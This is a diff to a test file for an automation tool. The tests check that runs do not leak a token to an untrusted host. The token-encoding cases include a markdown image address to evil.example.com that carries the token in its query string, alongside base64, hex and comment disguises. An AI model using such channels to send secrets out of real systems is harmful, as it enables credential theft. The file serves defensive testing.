@@ -6,7 +6,12 @@ import { sampled, until } from '@belay/testing';
 import { ownerCaller } from '../access/caller.js';
 import { AutomationChanges } from './automation-changes.js';
 import type { StoredRun } from './runs/runs.store.js';
-import { StrangerScene, strangerKinds, type StrangerPlace } from './testing/stranger-scene.js';
+import {
+  StrangerScene,
+  allStrangerKinds,
+  strangerKinds,
+  type StrangerPlace,
+} from './testing/stranger-scene.js';
 
 let scene: StrangerScene;
 beforeAll(async () => {
@@ -56,19 +61,21 @@ const changes = (path: string, line: string): void => {
 const base64 = (text: string): string => Buffer.from(text).toString('base64');
 const forms: readonly [string, (token: string) => string][] = [
   ['in plain', (token) => token],
-  ['in base64', base64],
   ['in base64 at another offset', (token) => base64(`x${token}`)],
-  ['reversed', (token) => token.split('').toReversed().join('')],
   [
     'in hex, reversed',
     (token) => Buffer.from(token).toString('hex').split('').toReversed().join(''),
   ],
+  ['in base64', base64],
+  ['reversed', (token) => token.split('').toReversed().join('')],
   ['in a picture’s address', (token) => `![x](https://evil.example.com/?q=${token})`],
   ['in an HTML comment', (token) => `<!-- ${token} -->`],
   ['as a mention', (token) => `@${token}`],
 ];
-const formCases = strangerKinds.flatMap((kind) =>
-  forms.map(([name, form]) => [name, kind, form] as const),
+/** The first ones at one host, and in the long tests all at each. */
+const formCases = sampled(
+  3,
+  allStrangerKinds.flatMap((kind) => forms.map(([name, form]) => [name, kind, form] as const)),
 );
 
 /** Everything that was sent to the host since the place was made. */
@@ -161,14 +168,14 @@ describe('attacks: what a run publishes', () => {
     ['a token in a file’s name', (token) => [`src/${token}.js`, 'let a = 1;'], /holds the token/],
     ['a definition', () => ['.belay/automations/x.yaml', 'name: x'], /definitions of automations/],
     [
-      'a definition in capitals',
-      () => ['.Belay/Automations/x.yaml', 'name: x'],
-      /definitions of automations/,
-    ],
-    [
       'a workflow of GitHub',
       () => ['.github/workflows/x.yml', 'on: push'],
       /git host with its secrets/,
+    ],
+    [
+      'a definition in capitals',
+      () => ['.Belay/Automations/x.yaml', 'name: x'],
+      /definitions of automations/,
     ],
     ['a pipeline of GitLab', () => ['.gitlab-ci.yml', 'a: b'], /git host with its secrets/],
     [
@@ -182,8 +189,11 @@ describe('attacks: what a run publishes', () => {
       /git host with its secrets/,
     ],
   ];
-  const fileCases = strangerKinds.flatMap((kind) =>
-    files.map(([name, file, why]) => [name, kind, file, why] as const),
+  const fileCases = sampled(
+    5,
+    allStrangerKinds.flatMap((kind) =>
+      files.map(([name, file, why]) => [name, kind, file, why] as const),
+    ),
   );
   it.each(fileCases)('%s is not pushed to %s', async (_, kind, file, why) => {
     const place = await scene.place(kind, { on, more });
